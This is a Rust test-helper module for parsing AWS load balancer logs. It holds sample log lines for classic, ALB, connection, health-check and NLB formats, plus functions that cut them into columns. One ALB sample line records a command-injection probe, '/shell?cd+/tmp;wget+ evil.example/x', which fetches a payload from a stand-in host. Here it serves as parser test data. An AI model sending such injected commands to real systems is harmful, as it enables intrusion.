//! The specification's sample lines of load balancer logs, and what the tests cut them with.

use std::collections::BTreeMap;

use super::{ElbCutter, Progress};
use crate::format::LogKind;
use crate::parse::cells::{Cells, ExtraField, Refusal, Wanted};

/// Classic, 15 fields.
pub(super) const CLB: &str = r#"2026-01-15T10:00:00.945958Z my-loadbalancer 198.51.100.39:2817 10.0.0.1:80 0.000073 0.001048 0.000057 200 200 0 29 "GET http://www.example.com:80/ HTTP/1.1" "curl/8.5.0" - -
2026-01-15T10:00:01.072335Z my-loadbalancer 2001:db8:4002:5883:b5f3:aaaa:bbbb:64ec:53016 10.0.0.1:80 0.00008 0.006129 0.000037 200 200 0 57 "GET https://www.example.com:443/a?b=c HTTP/1.1" "Mozilla/5.0 (X11; Linux x86_64)" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2
2026-01-15T10:00:02.943958Z my-loadbalancer 198.51.100.39:2818 10.0.0.1:80 0.001069 0.000028 0.000041 - - 82 305 "- - - " "-" - -
2026-01-15T10:00:03.383076Z my-loadbalancer 203.0.113.1:63484 - -1 -1 -1 504 0 0 0 "GET https://www.example.com:443/slow HTTP/1.1" "curl/8.5.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2
"#;

/// Classic before mid-2015, 12 fields.
pub(super) const CLB_OLD: &str = r#"2014-02-15T23:39:43.945958Z my-loadbalancer 198.51.100.39:2817 10.0.0.1:80 0.000073 0.001048 0.000057 200 200 0 29 "GET http://www.example.com:80/ HTTP/1.1"
"#;

/// ALB access, 34 fields.
pub(super) const ALB: &str = r#"https 2026-01-15T10:00:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 198.51.100.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 34 366 "GET https://www.example.com:443/cart?id=7 HTTP/1.1" "curl/8.5.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 1 2026-01-15T10:00:00.015000Z "authenticate,forward" "-" "-" "10.0.0.1:80" "200" "-" "-" TID_1234abcd5678ef90 "m.example.com" "-" "TransformSuccess" 10.0.0.9
http 2026-01-15T10:00:01.051646Z app/my-loadbalancer/50dc6c495c0c9188 203.0.113.20:41542 - -1 -1 -1 301 - 233 390 "GET http://192.0.2.10:80/shell?cd+/tmp;wget+ evil.example/x HTTP/1.1" "Hello, world" - - - "Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2026-01-15T10:00:01.051000Z "redirect" "https://192.0.2.10:443/shell?cd+/tmp;wget+ evil.example/x" "-" "-" "-" "Acceptable" "SpaceInUri" TID_16132ed0b4112148 "-" "-" "-" 10.0.0.9
h2 2026-01-15T10:00:02.209968Z app/my-loadbalancer/50dc6c495c0c9188 2001:db8::7:50718 10.0.0.66:9000 0.001 0.005 0.000 400 400 66 49 "GET https://www.example.com:443/q?bar=\x22 HTTP/2.0" "agent \x22x\x22 1.0" TLS_AES_128_GCM_SHA256 TLSv1.3 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-63e1aa26-3bbc289b52c6671f5d00f7b4" "www.example.com" "session-reused" 10160 2026-01-15T10:00:02.203000Z "waf,forward" "-" "-" "10.0.0.66:9000" "400" "-" "-" TID_dc57cebed65b444ebc8177bb698fe166 "-" "-" "-" 10.0.0.9
"#;

/// ALB access, 30 fields.
pub(super) const ALB_30: &str = r#"http 2026-01-15T10:00:03.216357Z app/my-loadbalancer/50dc6c495c0c9188 203.0.113.90:15070 - -1 -1 -1 400 - 0 272 "- http://my-loadbalancer-1.us-east-2.elb.amazonaws.com:80- -" "-" - - - "-" "-" "-" - 2026-01-15T10:00:02.967000Z "-" "-" "-" "-" "-" "-" "-" TID_dc57cebed65b444ebc8177bb698fe166
http 2026-01-15T10:00:04.748149Z app/my-loadbalancer/50dc6c495c0c9188 203.0.113.91:57273 - -1 -1 -1 200 - 0 272 "- http://my-loadbalancer-1.us-east-2.elb.amazonaws.com:80-/ " "-" - - - "-" "-" "-" - 2026-01-15T10:00:04.720000Z "-" "-" "-" "-" "-" "-" "-" TID_00000000000000000000000000000000
http 2026-01-15T10:00:05.186641Z app/my-loadbalancer/50dc6c495c0c9188 198.51.100.39:2817 - 0.000 0.001 0.000 502 - 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/8.5.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-lambda/73e2d6bc24d8a067 "Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 0 2026-01-15T10:00:05.164000Z "forward" "-" "LambdaInvalidResponse" "-" "-" "-" "-" TID_1234abcd5678ef90
"#;

/// ALB access in 2016, 18 fields.
pub(super) const ALB_18: &str = r#"https 2016-11-23T00:43:36.802774Z app/prd-elb/9bb21a626f7e7660 203.0.113.90:47372 - -1 -1 -1 503 - 131 381 "GET https://192.0.2.99:443//recordings/ HTTP/1.1" "libwww-perl/6.15" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-west-2:123456789012:targetgroup/prd-instances/ed26c7347aa20ca1 "Root=1-5834e638-4ce6fbe536f2a4fa14041b73"
"#;

/// ALB connection, 12 fields.
pub(super) const CONNECTION_12: &str = r#"2026-01-15T10:00:00.514108Z 203.0.113.1 36280 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 4.036 "CN=client.example.com,O=End Entity,L=Seattle,ST=Washington,C=US" NotBefore=2025-09-21T22:43:21Z;NotAfter=2028-06-17T22:43:21Z FEF257372D5C14D4 Success TID_3180a73013c8ca4bac2f731159d4b0fe
2026-01-15T10:00:01.514108Z 203.0.113.1 36281 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 - "CN=client.example.com,O=End Entity,L=Seattle,ST=Washington,C=US" NotBefore=2025-09-21T22:43:21Z;NotAfter=2028-06-17T22:43:21Z FEF257372D5C14D4 Failed:ClientCertUntrusted TID_1c71a68d70587445ad5127ff8b2687d7
2026-01-15T10:00:02.599544Z 10.0.0.26 58206 80 - - - "-" - - - TID_16132ed0b4112148
"#;

/// ALB connection, 15 fields.
pub(super) const CONNECTION_15: &str = r#"2026-01-15T10:00:03.100000Z 2001:db8::7 50718 443 TLSv1.3 TLS_AES_128_GCM_SHA256 0.011 "-" - - Success TID_dc57cebed65b444ebc8177bb698fe166 X25519MLKEM768 app/my-loadbalancer/50dc6c495c0c9188 10.0.0.9
"#;

/// ALB health check, 8 fields.
pub(super) const HEALTH_CHECK_8: &str = r#"http 2026-01-15T10:00:00.875678Z 0.019584011 10.0.0.97:80 my-targets PASS 200 -
http 2026-01-15T10:00:05.901409Z 1.121980746 10.0.0.9:80 my-targets FAIL 502 TargetError
"#;

/// ALB health check, 10 fields.
pub(super) const HEALTH_CHECK_10: &str = r#"lambda 2026-01-15T10:00:06.000001Z 0.104000000 arn:aws:lambda:us-east-2:123456789012:function:probe my-lambda PASS 200 - app/my-loadbalancer/50dc6c495c0c9188 10.0.0.9
"#;

/// NLB, 22 fields.
pub(super) const NLB: &str = r#"tls 2.0 2026-01-15T02:59:40 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd 203.0.113.154:51341 10.100.100.185:443 5 2 98 246 - arn:aws:acm:us-east-2:123456789012:certificate/2a108f19-aded-46b0-8493-c63eb1ef4a99 - ECDHE-RSA-AES128-SHA tlsv12 - my-network-loadbalancer-c6e77e28c25b2234.elb.us-east-2.amazonaws.com - - - 2026-01-15T02:59:30
tls 2.0 2026-01-15T08:51:42 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd 203.0.113.155:51342 10.100.100.185:443 5 2 98 246 - arn:aws:acm:us-east-2:123456789012:certificate/2a108f19-aded-46b0-8493-c63eb1ef4a99 - ECDHE-RSA-AES128-SHA tlsv12 - api.example.com h2 h2 "h2","http/1.1" 2026-01-15T08:51:20
tls 2.0 2026-01-15T09:00:00 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd 2001:db8:4900:1d0c:29b7:c9b2:7b5a:2380:55932 2001:db8:1a:138:7c01:63c:b510:129f:443 35040 48 2150 1726 - arn:aws:acm:us-east-2:123456789012:certificate/2a108f19-aded-46b0-8493-c63eb1ef4a99 - TLS_AES_128_GCM_SHA256 tlsv13 x25519 example.com - - - 2026-01-15T08:59:25
tls 2.0 2026-01-15T09:01:00 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd 203.0.113.9:40000 10.100.100.185:443 0 - 0 0 - - - - - - - - - - 2026-01-15T09:01:00
"#;

/// A block cut whole.
pub(super) struct Outcome {
    pub(super) cells: Cells,
    pub(super) refused: Vec<Refusal>,
    pub(super) progress: Progress,
    block: Vec<u8>,
    wanted: Wanted,
    kind: LogKind,
}

/// Cuts a block for these columns by name.
pub(super) fn cut_columns(kind: LogKind, block: &[u8], columns: &[&str], extra: bool) -> Outcome {
    let columns: Vec<usize> = columns.iter().map(|name| kind.column_index(name).unwrap()).collect();
    let wanted = Wanted::new(kind.columns().len(), &columns, extra);
    let mut cells = Cells::default();
    cells.reset(&wanted);
    let mut refused = Vec::new();
    let progress = ElbCutter::new(kind, &wanted).cut_block(block, 1, 0, usize::MAX, &mut cells, &mut refused);
    Outcome { cells, refused, progress, block: block.to_vec(), wanted, kind }
}

/// Cuts a block for all columns.
pub(super) fn cut(kind: LogKind, block: &str) -> Outcome {
    let columns: Vec<&str> = kind.columns().iter().map(|column| column.name).collect();
    cut_columns(kind, block.as_bytes(), &columns, true)
}

impl Outcome {
    /// The text of a cell; `None` where it has no value.
    pub(super) fn text(&self, row: usize, column: &str) -> Option<&str> {
        let slot = self.wanted.slot(self.kind.column_index(column).unwrap()).unwrap();
        let span = self.cells.spans[slot][row];
        (!span.is_none()).then(|| std::str::from_utf8(span.of(&self.block)).unwrap())
    }

    /// The columns of a row that have a value.
    pub(super) fn values(&self, row: usize) -> BTreeMap<&'static str, &str> {
        let names = self.kind.columns().iter().map(|column| column.name);
        names.filter_map(|name| Some((name, self.text(row, name)?))).collect()
    }

    /// What lay beyond the known columns of a row, by position; a dash is empty.
    pub(super) fn extra(&self, row: usize) -> Vec<(u16, &str)> {
        let of_row = self.cells.extra.iter().filter(|extra| extra.row as usize == row);
        of_row
            .map(|extra| match extra.field {
                ExtraField::Position(place) => {
                    (place, std::str::from_utf8(extra.span.of(&self.block)).unwrap())
                }
                ExtraField::Header(_) => panic!("load balancer logs have no header"),
            })
            .collect()
    }

    /// Checks that a row has exactly these values and no others.
    #[track_caller]
    pub(super) fn assert_row(&self, row: usize, expected: &[(&'static str, &str)]) {
        assert_eq!(self.refused, []);
        assert_eq!(self.values(row), expected.iter().copied().collect());
    }

    /// The reason of the only refusal of a block that gives no row.
    #[track_caller]
    pub(super) fn reason(&self) -> &str {
        assert_eq!((self.cells.rows(), self.refused.len()), (0, 1), "{:?}", self.refused);
        &self.refused[0].reason
    }
}
